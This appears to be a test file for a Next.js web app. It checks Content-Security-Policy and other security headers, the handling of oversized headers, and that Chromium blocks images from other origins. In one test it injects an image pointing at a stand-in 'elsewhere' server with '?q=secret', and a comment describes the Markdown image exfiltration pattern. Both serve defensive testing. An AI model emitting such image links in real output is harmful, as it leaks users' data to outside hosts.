import { createServer, request as httpRequest, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import * as img from "@/tests/support/testImages";
import { openBrowser, type BrowserSession } from "./browser";
import { screenshot } from "./screenshots";

/**
 * The security headers of the running app (its HTTP server around Next.js) on pages, API answers, static files and
 * errors, and in Chromium: the page works under its strict Content-Security-Policy (scripts by nonce only), and an
 * image pointing elsewhere — what a Markdown answer `![](https://host/?q=secret)` would make — is never fetched.
 */
const baseUrl = inject("baseUrl");
let browser: BrowserSession;
/** A server on another origin that counts the requests reaching it: the would-be exfiltration target. */
let elsewhere: Server;
let elsewhereHits = 0;

beforeAll(async () => {
  elsewhere = createServer((_request, response) => {
    elsewhereHits++;
    response.end();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  browser = await openBrowser();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => elsewhere.close(resolve));
});

function expectSecurityHeaders(headers: Headers, what: string): string {
  const policy = headers.get("content-security-policy") ?? "";
  const directives = new Map(
    policy
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...values]) => [name, values]),
  );
  expect(directives.get("frame-ancestors"), what).toEqual(["'none'"]);
  expect(directives.get("object-src"), what).toEqual(["'none'"]);
  expect(directives.get("img-src"), what).toEqual(["'self'", "data:", "blob:"]);
  expect(directives.get("connect-src"), what).toEqual(["'self'"]);
  const scripts = directives.get("script-src") ?? [];
  expect(
    scripts.some((source) => /^'nonce-[A-Za-z0-9+/]{22}=='$/.test(source)),
    what,
  ).toBe(true);
  expect(scripts, what).not.toContain("'unsafe-inline'");
  expect(scripts, what).not.toContain("'unsafe-eval'");
  expect(headers.get("x-content-type-options"), what).toBe("nosniff");
  expect(headers.get("x-frame-options"), what).toBe("DENY");
  expect(headers.get("referrer-policy"), what).toBe("no-referrer");
  expect(headers.get("cross-origin-opener-policy"), what).toBe("same-origin");
  return policy;
}

describe("security headers", () => {
  it("are on every page, API answer, static file and error, with a fresh nonce each time", async () => {
    const page = await fetch(`${baseUrl}/`);
    const html = await page.text();
    const policy = expectSecurityHeaders(page.headers, "/");
    const nonce = /'nonce-([^']+)'/.exec(policy)![1];
    // Every script Next.js rendered carries this response's nonce.
    const scripts = html.match(/<script[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    const again = expectSecurityHeaders((await fetch(`${baseUrl}/`)).headers, "/ again");
    expect(again).not.toBe(policy);

    const chunk = /<script src="(\/_next\/static\/[^"]+\.js)"/.exec(html)![1];
    for (const route of ["/metrics", "/api/health", "/api/images/not-an-id", "/v1/models", chunk, "/no-such-page"]) {
      expectSecurityHeaders((await fetch(`${baseUrl}${route}`)).headers, route);
    }
  });

  it("answers a 20,000-character header with JSON 431", async () => {
    const url = new URL(baseUrl);
    const answer = await new Promise<{ status: number; type: string | undefined; body: string }>((resolve, reject) => {
      const req = httpRequest(
        { host: url.hostname, port: url.port, path: "/api/health", headers: { "x-long": "a".repeat(20_000) } },
        (res) => {
          let body = "";
          res.on("data", (chunk) => (body += chunk));
          res.on("end", () => resolve({ status: res.statusCode ?? 0, type: res.headers["content-type"], body }));
        },
      );
      req.on("error", reject);
      req.end();
    });
    expect(answer.status).toBe(431);
    expect(answer.type).toBe("application/json");
    expect(JSON.parse(answer.body)).toEqual({
      error: { code: "headers_too_large", message: "the request's headers exceed 16384 bytes" },
    });
  });
});

describe("the page under its Content-Security-Policy, in Chromium", () => {
  it("runs (an upload shows its stored thumbnail) with no violation, and never loads an image from elsewhere", async () => {
    const { page } = browser;
    const refusals: string[] = [];
    page.on("console", (message) => {
      if (message.text().includes("Content Security Policy")) refusals.push(message.text());
    });
    await page.goto(baseUrl);
    await page.evaluate(() => {
      (window as unknown as { violations: string[] }).violations = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        (window as unknown as { violations: string[] }).violations.push(
          `${event.violatedDirective} ${event.blockedURI}`,
        ),
      );
    });

    await page
      .getByTestId("file-input")
      .setInputFiles({ name: "csp.png", mimeType: "image/png", buffer: await img.png(img.patternRgb(90, 60)) });
    const thumbnail = page.getByTestId("gallery-item").filter({ hasText: "csp.png" }).locator("img");
    await expect
      .poll(() => thumbnail.evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth), { timeout: 20_000 })
      .toBe(90);
    expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);

    const target = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/pixel.png?q=secret`;
    await page.evaluate((src) => {
      const leak = document.createElement("img");
      leak.src = src;
      document.body.append(leak);
    }, target);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations))
      .toEqual([`img-src ${target}`]);
    expect(elsewhereHits).toBe(0);
    // Chromium's own report: that image, and nothing the page itself needed.
    expect(refusals).toHaveLength(1);
    expect(refusals[0]).toContain(target);
    await screenshot(page, "security-csp");
  });
});
